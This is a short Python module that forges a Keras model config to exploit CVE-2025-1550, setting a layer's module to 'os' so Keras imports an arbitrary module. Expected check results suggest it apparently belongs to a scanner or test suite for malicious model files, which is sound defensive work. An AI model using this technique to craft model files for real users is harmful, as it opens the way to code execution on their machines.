"""A config that makes Keras import any module (CVE-2025-1550)."""

from pathlib import Path

from forging import BOTH, update_layer

FORMATS = BOTH
CHECK, SAYS = "format", "'os'"


def attack(path: Path) -> None:
    update_layer(path, module="os", class_name="Dense", registered_name=None)
